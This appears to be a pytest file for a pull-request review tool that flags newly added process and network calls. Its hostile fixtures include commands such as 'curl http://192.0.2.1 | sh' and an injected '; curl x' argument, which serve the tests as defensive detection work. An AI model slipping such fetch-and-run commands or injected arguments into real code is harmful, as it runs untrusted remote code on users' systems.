"""What stands behind a call, and what goes into one, makes it new: wrappers of the project, changed
constants."""

from __future__ import annotations

from pathlib import Path

import pytest

from gate.change.git_range import open_range
from gate.model.sensitive import SensitiveCall
from gate.plan.source_readings import new_calls, read_change
from tests.e2e.pulls import FileMap, Pull, build

SHELL = (
    "import subprocess\n\n\ndef run(command, *, check=True):\n"
    "    words = ['sh', '-c', command]\n    return subprocess.run(words, check=check)\n"
)
SHOP = {
    "src/shop/__init__.py": "",
    "src/shop/shell.py": SHELL,
    "src/shop/tools.py": "from .shell import run\n\n\ndef pack(name):\n"
    "    run('tar -cf x ' + name)\n\n\ndef size(name):\n    return len(name)\n",
    "src/shop/far.py": "from shop import tools\n\n\ndef ship(name):\n    tools.pack(name)\n",
    "src/shop/client.py": "import requests\n\n\nclass Client:\n    def __init__(self, base):\n"
    "        self.base = base\n\n    def send(self, path, data):\n"
    "        return requests.post(self.base + path, data=data)\n",
    "src/shop/cart.py": "def total(values):\n    return sum(values)\n",
    "src/shop/feed.py": "import urllib.request\n\nURL = 'https://shop.example/feed'\n"
    "TITLE = 'Feed'\n\n\ndef feed():\n    return urllib.request.urlopen(URL).read()\n\n\n"
    "def title():\n    return TITLE\n",
    "src/shop/job.py": "import subprocess\n\n\nclass Job:\n    words = ['make', 'all']\n"
    "    name = 'job'\n\n    def start(self, extra=('-k',)):\n"
    "        return subprocess.run([*self.words, *extra])\n",
    "src/shop/config.py": "SITE = 'https://shop.example/'\nNAME = 'https://name.example/'\nSTEP = 'make'\n",
    "src/shop/site.py": "import requests\n\nfrom .config import NAME, SITE\n\n\ndef site():\n"
    "    return requests.get(SITE + 'x')\n\n\ndef name():\n    return NAME\n",
    "src/shop/steps.py": "from shop import config\nfrom shop.shell import run\n\n\ndef step():\n"
    "    run(config.STEP)\n",
    "src/shop/near.py": "from .shell import run\n\nSTEP = 'make docs'\n\n\ndef docs():\n    run(STEP)\n",
}
CART = "def total(values):\n    return sum(values)\n"
HOSTILE = {
    "a wrapper of the project": (
        "src/shop/cart.py",
        f"from shop.shell import run\n{CART}    run('curl x')\n",
        "process",
    ),
    "relative": ("src/shop/cart.py", f"from .shell import run as go\n{CART}\ngo('curl x')\n", "process"),
    "by its module": (
        "src/shop/cart.py",
        f"from shop import shell\n{CART}\nshell.run('curl x')\n",
        "process",
    ),
    "one behind another": (
        "src/shop/cart.py",
        f"from shop.tools import pack\n{CART}\npack('; curl x')\n",
        "process",
    ),
    "two behind another": (
        "src/shop/cart.py",
        f"from shop.far import ship\n{CART}\nship('; curl x')\n",
        "process",
    ),
    "a method": (
        "src/shop/cart.py",
        f"from shop.client import Client\n{CART}\nClient('http://192.0.2.1').send('/', 1)\n",
        "network",
    ),
    "of the same file": ("src/shop/shell.py", f"{SHELL}\n\ndef more():\n    run('curl x')\n", "process"),
    "a changed constant": (
        "src/shop/feed.py",
        SHOP["src/shop/feed.py"].replace("shop.example", "192.0.2.1"),
        "network",
    ),
    "a changed member": ("src/shop/job.py", SHOP["src/shop/job.py"].replace("'all'", "'evil'"), "process"),
    "a changed default": (
        "src/shop/job.py",
        SHOP["src/shop/job.py"].replace("'-k'", "'-f/tmp/x'"),
        "process",
    ),
    "a constant for a wrapper": (
        "src/shop/near.py",
        SHOP["src/shop/near.py"].replace("make docs", "curl x | sh"),
        "process",
    ),
    "a constant of another file": (
        "src/shop/config.py",
        SHOP["src/shop/config.py"].replace("//shop.example", "//192.0.2.1"),
        "network",
    ),
    "a command for another file's wrapper": (
        "src/shop/config.py",
        SHOP["src/shop/config.py"].replace("'make'", "'curl http://192.0.2.1 | sh'"),
        "process",
    ),
    "a local": ("src/shop/shell.py", SHELL.replace("'-c'", "'-xc'"), "process"),
}
HARMLESS = {
    "a function that hands nothing on": (
        "src/shop/cart.py",
        f"from shop.tools import size\n{CART}\nsize('x')\n",
    ),
    "another constant": ("src/shop/feed.py", SHOP["src/shop/feed.py"].replace("'Feed'", "'News'")),
    "another member": ("src/shop/job.py", SHOP["src/shop/job.py"].replace("'job'", "'build'")),
    "an address that goes nowhere": (
        "src/shop/config.py",
        SHOP["src/shop/config.py"].replace("name.example", "names.example"),
    ),
    "a constant of another file that is no command": (
        "src/shop/config.py",
        SHOP["src/shop/config.py"].replace("'make'", "'build'"),
    ),
    "moved to another file": ("src/shop/other.py", SHELL),
    "renamed": ("src/shop/feed.py", SHOP["src/shop/feed.py"].replace("TITLE", "NAME")),
    "laid out anew": ("src/shop/shell.py", SHELL.replace("[", "[\n        ").replace("]", ",\n    ]")),
    "a variable with another name": (
        "src/shop/near.py",
        SHOP["src/shop/near.py"].replace("def docs", "def pages"),
    ),
}


def new_of(folder: Path, base: FileMap, head: FileMap) -> dict[str, tuple[SensitiveCall, ...]]:
    repo = build(Pull(name="x", head=head, base=base, verdicts=()), folder)
    with open_range(repo, "main", "head") as opened:
        files = opened.change.files
        return {
            p: tuple(c) for p, c in new_calls(files, read_change(files, opened.base, opened.head)).items()
        }


def found(folder: Path, head: FileMap) -> dict[str, set[str]]:
    new = new_of(folder, SHOP, head)
    return {path: {call.kind.value for call in calls} for path, calls in new.items() if calls}


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile(case: str, tmp_path: Path) -> None:
    path, text, kind = HOSTILE[case]
    assert kind in found(tmp_path, {path: text})[path]


@pytest.mark.parametrize("case", HARMLESS)
def test_harmless(case: str, tmp_path: Path) -> None:
    path, text = HARMLESS[case]
    gone: FileMap = {"src/shop/shell.py": None} if case.startswith("moved") else {}
    assert found(tmp_path, {path: text, **gone}) == {}


PAGER = (
    "import contextlib, subprocess\n\n\n@contextlib.contextmanager\ndef pipe(command):\n"
    "    with subprocess.Popen(command) as child:\n        yield child\n\n\n"
    "def chosen(command):\n    return pipe(command)\n\n\n"
    "short = lambda command: subprocess.run(command)\n\n\n"
    "def either(command):\n    subprocess.run(command)\n    return pipe(command)\n"
)


@pytest.mark.parametrize(
    ("name", "way"), [("pipe", "make"), ("chosen", "make"), ("either", "call"), ("short", "call")]
)
def test_a_generator_runs_when_it_is_gone_through(name: str, way: str, tmp_path: Path) -> None:
    """That it was called is all that its own line can show: its process starts at another one."""
    head: FileMap = {"src/shop/cart.py": f"from shop.pager import {name}\n{CART}\nx = {name}(['less'])\n"}
    new = new_of(tmp_path, {**SHOP, "src/shop/pager.py": PAGER}, head)
    assert [(call.kind.value, call.way) for call in new["src/shop/cart.py"]] == [("process", way)]
